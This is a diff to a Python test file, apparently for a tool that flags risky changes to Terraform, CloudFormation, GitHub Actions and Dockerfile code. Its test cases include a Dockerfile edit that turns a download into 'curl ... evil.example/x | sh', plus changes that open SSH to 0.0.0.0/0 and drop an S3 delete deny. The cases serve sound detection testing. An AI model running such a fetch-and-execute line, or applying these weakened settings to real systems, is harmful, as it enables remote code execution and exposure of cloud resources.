@@ -244,6 +244,8 @@ HOLDS = """resource "aws_iam_%(kind)s_policy_attachment" "more" {
 }
 """
 ADMIN = HOLDS % {"kind": "user", "name": "u", "policy": "aws_iam_policy.p.arn"}
+CALLER = 'data "aws_caller_identity" "c" {}\n'
+OF_ACCOUNT = '"arn:aws:iam::${data.aws_caller_identity.c.account_id}:policy/p"'
 LOGGING = '"arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole"'
 ACL_OPEN = """resource "aws_network_acl" "n" {
   ingress {
@@ -285,6 +287,7 @@ MORE = (
     (US, 'resource "aws_codecommit_repository" "r" {\n  repository_name = "r"\n}\n'),
     (HELD, ADMIN),
     (HELD, HOLDS % {"kind": "group", "name": "g", "policy": '"arn:aws:iam::1:policy/p"'}),
+    (HELD, HOLDS % {"kind": "group", "name": "g", "policy": OF_ACCOUNT} + CALLER),
     (TRUSTED, HOLDS % {"kind": "role", "name": "r", "policy": LOGGING}),
     (MACHINES, FLEET % "launch_template_id = aws_launch_template.l.id"),
     (MACHINES, FLEET % 'launch_template_name = "machines"'),
@@ -333,6 +336,35 @@ FETCH = "FROM a:1\nRUN curl -k https://mirror.example.org/a.tgz -o a.tgz\nUSER a
 
 
 Case = tuple[str, str, str, str]  # a file, its text in the base, what of it a push replaces, and by what
+
+
+DENYING = """data "aws_iam_policy_document" "d" {
+  statement {
+    actions   = ["s3:*"]
+    resources = ["*"]
+  }
+# more
+}
+resource "aws_iam_policy" "p" {
+  name   = "p"
+  policy = data.aws_iam_policy_document.d.json
+}
+"""
+_DENY = '{\n    effect    = "Deny"\n    actions   = ["s3:Delete*"]\n    resources = ["*"]\n  }'
+SURELY = f"  statement {_DENY}"
+PERHAPS = f'  dynamic "statement" {{\n    for_each = var.on ? [1] : []\n    content {_DENY}\n  }}'
+MANY_VALUES = ", ".join(["dev", *(f"s{number:02}" for number in range(80)), "prod"])
+CHOSEN = f"""Parameters:
+  Env: {{Type: String, Default: dev, AllowedValues: [{MANY_VALUES}]}}
+Conditions: {{P: !Equals [!Ref Env, prod]}}
+Resources:
+  # more
+  G:
+    Type: AWS::EC2::SecurityGroup
+    Properties:
+      GroupDescription: x
+      SecurityGroupIngress: [{{IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: !If [P, 10.0.0.0/8, 0.0.0.0/0]}}]
+"""
 
 
 def told_as_new(folder: Path, cases: list[Case]) -> set[Case]:
@@ -407,6 +439,8 @@ DIRECTED: list[Case] = [
     ("a.yml", SIGNED, "ubuntu-latest", "[self-hosted, prod]"),
     ("a.yml", INJECTION, "runs-on: ubuntu-latest", "strategy: {matrix: {at: [prod]}}\n    runs-on: ${{ matrix.at }}"),
     ("a.yml", TAKEN, "run: make", f"run: make\n        {KEY}"),
+    *(("r.tf", DENYING.replace("# more", was), was, now) for was, now in ((SURELY, PERHAPS), (PERHAPS, ""))),
+    ("t.yaml", CHOSEN, "10.0.0.0/8", "0.0.0.0/0"),
     ("Dockerfile", STAGE, "python", "evil/python"),
     ("Dockerfile", FETCH, "mirror.example.org/a.tgz -o a.tgz", "evil.example/x | sh"),
 ]
@@ -457,6 +491,9 @@ HARMLESS: list[Case] = [
         "strategy: {matrix: {at: [macos-15]}}\n    runs-on: ${{ matrix.at }}",
     ),
     ("a.yml", RIGHTS, "run: make", "run: make test"),
+    ("r.tf", DENYING.replace("# more", PERHAPS), PERHAPS, SURELY),
+    ("r.tf", DENYING, "# more", PERHAPS),
+    ("t.yaml", CHOSEN, "# more", "T: {Type: AWS::SNS::Topic, Properties: {KmsMasterKeyId: k}}"),
     ("Dockerfile", STAGE, "USER", "LABEL a=b\nUSER"),
 ]
 
